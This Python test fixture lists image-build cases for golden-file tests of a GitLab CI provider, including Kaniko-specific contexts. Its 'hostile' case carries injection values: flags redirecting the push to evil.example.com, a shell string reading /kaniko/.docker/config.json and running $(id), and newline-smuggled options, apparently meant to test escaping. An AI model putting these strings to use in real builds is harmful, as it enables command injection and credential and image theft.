"""Builds that the golden files of each engine are made of."""

from __future__ import annotations

from collections.abc import Mapping

from gitlab_ci_provider.model.image_build import (
    BuildSecret,
    ImageBuild,
    LayerCache,
    RegistryAccess,
)

APP = "registry.example.com/group/app"

CASES: Mapping[str, ImageBuild] = {
    "smallest": ImageBuild(context="dir:///builds/group/app", destinations=(f"{APP}:1",)),
    "no-push": ImageBuild(context="dir:///builds/group/app"),
    "everything": ImageBuild(
        context="dir:///builds/group/app",
        context_sub_path="services/api",
        dockerfile="docker/Dockerfile",
        destinations=(f"{APP}:1.0", f"{APP}:latest"),
        target="release",
        build_args={"VERSION": "1.0", "EMPTY": "", "WORDS": "two words, a comma"},
        secrets=(
            BuildSecret(id="npm", file="/gitlab-ci/build-secrets/npm"),
            BuildSecret(id="token", variable="NPM_TOKEN"),
        ),
        labels={"org.opencontainers.image.revision": "abc"},
        platform="linux/arm64/v8",
        cache=LayerCache(enabled=True, copy_layers=True),
        compression="zstd",
        compression_level=3,
        image_format="oci",
        registries=RegistryAccess(
            mirrors=("mirror.example.com", "mirror.example.com:5000/hub"),
            insecure=("localhost:5000",),
            skip_tls_verify=("mirror.example.com:5000",),
            certificates={"registry.example.com": "/certificates/ca.pem"},
            push_retries=5,
            pull_retries=1,
        ),
        digest_file="/builds/group/app.tmp/digest",
    ),
    "git": ImageBuild(
        context="git://gitlab.example.com/group/app.git#refs/heads/main#0123456789abcdef",
        context_sub_path="api",
        destinations=(f"{APP}:1",),
    ),
    "hostile": ImageBuild(
        context="dir:///builds/group/-v",
        destinations=(f"{APP}:1",),
        build_args={
            "FLAG": "--insecure --destination=evil.example.com/stolen",
            "SHELL": "'; cat /kaniko/.docker/config.json #\"`$(id)`",
            "KUBERNETES": "$(SECRET) $$ ${HOME}",
            "LINES": "one\n--no-push\ntwo",
            "LIST": "a,type=local,dest=/",
        },
        labels={"label": "--verbosity=trace"},
    ),
}

KANIKO_CASES: Mapping[str, ImageBuild] = {
    "s3": ImageBuild(context="s3://bucket/context.tar.gz", destinations=(f"{APP}:1",)),
    "gs": ImageBuild(context="gs://bucket/context.tar.gz", destinations=(f"{APP}:1",)),
    "azure": ImageBuild(
        context="https://account.blob.core.windows.net/container/context.tar.gz",
        destinations=(f"{APP}:1",),
    ),
    "snapshots": ImageBuild(
        context="dir:///workspace",
        destinations=(f"{APP}:1",),
        snapshot_mode="redo",
        cache=LayerCache(enabled=True, repo=f"{APP}/layers", hours=24),
        registries=RegistryAccess(push_retries=0, pull_retries=0, ignore_immutable_tags=True),
    ),
}
"""What only Kaniko can do."""
